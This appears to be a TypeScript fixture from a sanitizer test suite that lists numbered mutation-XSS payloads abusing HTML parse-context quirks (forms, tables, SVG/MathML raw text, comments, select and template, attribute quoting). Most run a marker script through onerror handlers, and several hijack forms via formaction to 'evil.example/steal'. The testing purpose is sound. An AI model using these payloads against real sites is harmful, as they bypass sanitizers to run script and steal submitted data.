// Theme markup written for this suite against the parse-context attacks on server-rendered
// markup: the server checks markup in one context and the browser parses it again in
// another (a merchant's form, a table cell, a list item), or serialising a tree gives
// text that parses to another tree. `$` is replaced by the payload's number, so a recorded
// `__pwned(n)` call names the payload that ran. Some run nothing but break the page
// around the slot (a form closed early, a list item closed, the rest of the page turned
// to text): the suite checks the merchant's own form, button and list after each slot.

const run = '__pwned($)';
const img = `<img src="x" onerror="${run}">`;

/** Elements whose text is not parsed as markup in HTML, and so differ from foreign content. */
const RAW = ['style', 'xmp', 'noembed', 'noframes', 'iframe', 'noscript', 'title', 'textarea'];

export const MXSS_FAMILIES: { family: string; payloads: string[] }[] = [
  {
    family: 'nested forms and the form element pointer',
    payloads: [
      `<math><mtext><form><mglyph><style></math>${img}</style></mglyph></form></mtext></math>`,
      `<math><mtext><form><mglyph><xmp></math>${img}</xmp></mglyph></form></mtext></math>`,
      `<math><mtext><form><mglyph><noembed></math>${img}</noembed></mglyph></form></mtext></math>`,
      `<math><mtext><form><mglyph><noframes></math>${img}</noframes></mglyph></form></mtext></math>`,
      `<math><mtext><form><malignmark><style></math>${img}</style></malignmark></form></mtext></math>`,
      `<math><mi><form><mglyph><style></math>${img}</style></mglyph></form></mi></math>`,
      `<form><math><mtext></form><form><mglyph><style></math>${img}`,
      `<svg><foreignObject><form><math><mtext><mglyph><style></math>${img}</style></mglyph></mtext></math></form></foreignObject></svg>`,
      '<form><button>Take the button</button></form>',
      '<form id="theirs$"></form><button form="theirs$">Take the button</button>',
      '<button formaction="https://evil.example/steal" formmethod="post">Send the form elsewhere</button>',
      '<input type="submit" formaction="https://evil.example/steal" value="Send">',
      '<input type="image" alt="Send" formaction="https://evil.example/steal">',
      '<button type="reset">Empty the merchant form</button>',
      '<div><form></div><button>Half a form</button>',
      '<table><form><tr><td><button>In a table form</button></td></tr></form></table>',
    ],
  },
  {
    family: 'table foster parenting',
    payloads: [
      `<table><math><mtext><table><mglyph><style>${img}`,
      `<table><tr><td><svg><desc><table><tr><td>${img}</td></tr></table></desc></svg></td></tr></table>`,
      `<table><svg><style>${img}</style></svg></table>`,
      `<table><style>${img}</style><tr><td>x</td></tr></table>`,
      `<table><tr>text before a cell<td>x</td></tr></table>${img}`,
      `</td></tr></table><img src="x" onerror="${run}">`,
      `<td>cell</td><img src="x" onerror="${run}">`,
      `<tr><td><math><mtext><mglyph><style>${img}</style></mglyph></mtext></math></td></tr>`,
      `<caption><math><mtext><mglyph><style>${img}</style></mglyph></mtext></math></caption>`,
      `<table><caption><form><math><mtext><mglyph><style></math>${img}</style></mglyph></math></form></caption></table>`,
    ],
  },
  {
    family: 'raw text inside foreign content',
    payloads: [
      ...RAW.map((tag) => `<svg><${tag}><img src="x" onerror="${run}"></${tag}></svg>`),
      ...RAW.map((tag) => `<math><mtext><mglyph><${tag}></math><img src="x" onerror="${run}"></${tag}></mglyph></mtext></math>`),
      `<svg><title><style><img src="x" onerror="${run}"></style></title></svg>`,
      `<svg><desc><noscript></desc><img src="x" onerror="${run}"></noscript></desc></svg>`,
      `<svg><plaintext><img src="x" onerror="${run}"></plaintext></svg>`,
      `<math><annotation-xml encoding="text/html"><xmp></annotation-xml>${img}</xmp></annotation-xml></math>`,
      `<math><annotation-xml encoding="application/xhtml+xml"><style></math>${img}</style></annotation-xml></math>`,
    ],
  },
  {
    family: 'noscript, comments and processing instructions',
    payloads: [
      `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
      `<noscript><style></noscript><img src=x onerror=${run}></style>`,
      `<!-- --!><img src="x" onerror="${run}">-->`,
      `<!--a--!>--><img src="x" onerror="${run}">`,
      `<!--><img src="x" onerror="${run}">-->`,
      `<!---><img src="x" onerror="${run}">-->`,
      `<svg><!--</svg>--><img src="x" onerror="${run}"></svg>`,
      `<svg><![CDATA[</svg><img src="x" onerror="${run}">]]></svg>`,
      `<?x</p><img src="x" onerror="${run}">?>`,
      `<p title="--!>"><!--</p><img src="x" onerror="${run}">-->`,
    ],
  },
  {
    family: 'namespace confusion: </p> in svg, select and template',
    payloads: [
      `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
      `<svg><p><style><a id="</style><img src=1 onerror=${run}>"></style></p></svg>`,
      `<math></br><style><a id="</style><img src=1 onerror=${run}>">`,
      `<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=${run}>">`,
      `<select><style><a title="</style><img src=x onerror=${run}>"></style></select>`,
      `<select><xmp><a title="</xmp><img src=x onerror=${run}>"></xmp></select>`,
      `<select><iframe><a title="</iframe><img src=x onerror=${run}>"></iframe></select>`,
      `<select><option><svg><style><img src=x onerror=${run}></style></svg></option></select>`,
      `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${run}></option></select>`,
      `<template><svg><style><img src=x onerror=${run}></style></svg></template>`,
      `<svg><a><foreignObject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=${run}>">`,
      `<svg><style><!--</style><a id="--></style><img src=x onerror=${run}>"></a></svg>`,
      `<svg><script>${run}</script></svg>`,
      `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
    ],
  },
  {
    family: 'attribute quoting',
    payloads: [
      `<a href="/ok" title="x&quot; onmouseover=${run} x=&quot;">x</a>`,
      `<img alt="&#x22; onerror=${run} x=" src="x">`,
      `<img alt='a"b' title=\`c\` src="x" onerror=\`${run}\`>`,
      `<div title="</div><img src=x onerror=${run}>">x</div>`,
      `<a id="x" title="&lt;/a&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
      `<b title="<!--">x</b><!--"><img src=x onerror=${run}>-->`,
      `<img src=x onerror=${run}//`,
      `<img src="x"/onerror="${run}">`,
      `<img src="x" o\u0000nerror="${run}">`,
      `<svg><a xlink:href="/ok" xlink:type="simple" xmlns:xlink="javascript:${run}"><text>x</text></a></svg>`,
    ],
  },
  {
    family: 'list items and the card around the markup',
    payloads: [
      '<li class="card">an item that would close the card</li>',
      `<li><style>*{}</style>x</li><li>${img}</li>`,
      `</li></ul></div><img src="x" onerror="${run}">`,
      '<dd>term</dd><dt>definition</dt>',
      '<a href="/ok"><li>inside a link</li></a>',
      '<ul><li>own list</li></ul><li>no list</li>',
      `<plaintext>the rest of the page would be text`,
      `<p><table><tr><td>${img}</td></tr></table></p>`,
      `<a href="/ok"><table><tr><td><a href="/ok">nested links</a></td></tr></table></a>`,
      '<h1><h2>x</h2></h1><button><button>x</button></button>',
    ],
  },
];

/** Every payload, numbered from 1, `$` filled in. */
export const MXSS_PAYLOADS: readonly string[] = MXSS_FAMILIES.flatMap((f) => f.payloads).map((p, i) => p.replaceAll('$', String(i + 1)));
